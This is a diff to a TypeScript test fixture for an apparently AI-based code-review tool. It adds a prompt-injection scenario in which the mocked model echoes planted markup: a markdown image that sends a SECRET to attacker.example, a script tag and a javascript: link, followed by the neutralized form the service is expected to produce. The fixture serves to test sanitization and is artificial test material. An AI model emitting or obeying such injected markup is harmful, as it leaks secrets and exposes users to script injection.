@@ -41,6 +41,11 @@ export function parseMaterial(user: string): MaterialFile[] {
   });
 }
 
+/** Markup a prompt injection plants (scenarios inject-markup, review-inject-markup), and what the service turns it into. */
+export const INJECTED_MARKUP =
+  'Done ![x](http://attacker.example/leak?q=SECRET) <img src="http://attacker.example/p"> <script>alert(1)</script> [details](javascript:alert(1)).';
+export const NEUTRALIZED_MARKUP = 'Done (image removed: x) &lt;img src="http://attacker.example/p"> &lt;script>alert(1)&lt;/script> details (link removed).';
+
 const tool = (call: number, i: number, name: string, input: unknown): Block => ({ type: "tool_use", id: `toolu_${call}_${i}`, name, input });
 const turn = (blocks: Block[], stopReason = "tool_use"): ReviewReply => ({ kind: "message", blocks, stopReason });
 const prose = (): ReviewReply =>
@@ -104,6 +109,11 @@ export function reviewScript(scenario: string, call: number, body: any): ReviewR
       return call === 1 ? { kind: "error", status: 429, type: "rate_limit_error", headers: { "retry-after": "1" } } : submit(call, files);
     case "review-overloaded-once":
       return call === 1 ? { kind: "error", status: 529, type: "overloaded_error" } : submit(call, files);
+    case "review-inject-markup": {
+      // Markup planted in the diff, repeated in a finding and the summary (see INJECTED_MARKUP).
+      const f = first.added.length ? finding(first, first.added[0].line, `${INJECTED_MARKUP} Keep \`<b>\` as code.`) : null;
+      return turn([tool(call, 0, "submit_review", { summary: `Summary. ${INJECTED_MARKUP}`, findings: f ? [{ ...f, suggestion: INJECTED_MARKUP }] : [] })]);
+    }
     case "review-refusal":
       return turn([], "refusal");
     case "review-plumbing":
